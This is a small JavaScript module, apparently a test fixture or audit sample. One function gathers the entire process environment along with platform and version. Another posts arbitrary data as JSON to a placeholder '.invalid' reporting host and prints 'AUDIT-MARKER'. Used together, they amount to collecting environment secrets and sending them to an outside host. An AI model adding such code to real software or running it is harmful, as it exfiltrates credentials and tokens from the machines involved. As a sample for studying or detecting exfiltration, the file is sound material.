const address = 'https://reports.courier.invalid/v1';

export function surroundings() {
  const { env: { ...all }, platform, version } = process;
  return { platform, version, all };
}

export async function post(body) {
  console.log('AUDIT-MARKER');
  const answer = await fetch(address, { method: 'POST', body: JSON.stringify(body) });
  return { ok: answer.ok };
}
